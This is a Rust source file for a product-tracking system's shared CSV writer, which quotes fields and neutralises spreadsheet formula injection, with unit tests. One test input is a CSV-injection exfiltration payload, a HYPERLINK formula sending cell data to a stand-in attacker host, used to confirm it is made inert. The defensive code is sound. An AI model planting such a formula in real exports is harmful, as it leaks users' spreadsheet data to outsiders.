//! The one CSV writer every export uses (units, batch serials, the police hot list, the
//! expiry report, the API's units CSV): fields quoted when they need it, and text that a
//! spreadsheet would run as a formula made inert.

/// Which of a manufacturer's units to export; empty filters take all.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct UnitExportFilter {
    pub model: Option<String>,
    pub lot: Option<String>,
    pub status: Option<String>,
    /// A recall number: only the units it covers.
    pub recall: Option<String>,
}

impl UnitExportFilter {
    /// The filter from what was typed (blank fields take all), or why a status is not one.
    pub fn parse(model: &str, lot: &str, status: &str, recall: &str) -> Result<Self, String> {
        let given = |v: &str| Some(v.trim().to_owned()).filter(|v| !v.is_empty());
        let filter = Self {
            model: given(model),
            lot: given(lot),
            status: given(status),
            recall: given(recall),
        };
        if let Some(status) = &filter.status
            && !crate::import::UNIT_STATUSES.contains(&status.as_str())
        {
            return Err(format!(
                "'{status}' is not a status; use one of {}.",
                crate::import::UNIT_STATUSES.join(", ")
            ));
        }
        Ok(filter)
    }
}

/// Characters that make a spreadsheet read a cell as a formula when they lead it (OWASP,
/// "CSV Injection"): `=`, `+`, `-`, `@`, a tab or a carriage return.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV field: text that would start a formula gets a leading `'` (spreadsheets show the
/// rest as typed), then the field is quoted when it holds a comma, a quote or a line break.
pub fn csv_field(value: &str) -> String {
    let inert = if value.starts_with(FORMULA_LEADS) {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    if inert.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", inert.replace('"', "\"\""))
    } else {
        inert
    }
}

/// One CSV line of `fields`, ending in a line feed.
pub fn csv_line<S: AsRef<str>>(fields: &[S]) -> String {
    let mut line = fields
        .iter()
        .map(|field| csv_field(field.as_ref()))
        .collect::<Vec<_>>()
        .join(",");
    line.push('\n');
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_quoted_when_needed() {
        assert_eq!(csv_field("HL000001"), "HL000001");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field(""), "");
    }

    #[test]
    fn text_that_would_run_as_a_formula_is_made_inert() {
        assert_eq!(
            csv_field("=HYPERLINK(\"https://evil.example/?\"&B2,\"Details\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Details\"\")\""
        );
        assert_eq!(csv_field("+1-555-0100"), "'+1-555-0100");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("\tcmd"), "'\tcmd");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        // Only a leading character matters: a formula sign inside the text stays as typed.
        assert_eq!(csv_field("A-1 = ok"), "A-1 = ok");
        assert_eq!(csv_field("2026-12-02"), "2026-12-02");
    }

    #[test]
    fn lines_join_fields_with_commas() {
        assert_eq!(csv_line(&["a", "b,c", "=1"]), "a,\"b,c\",'=1\n");
    }
}
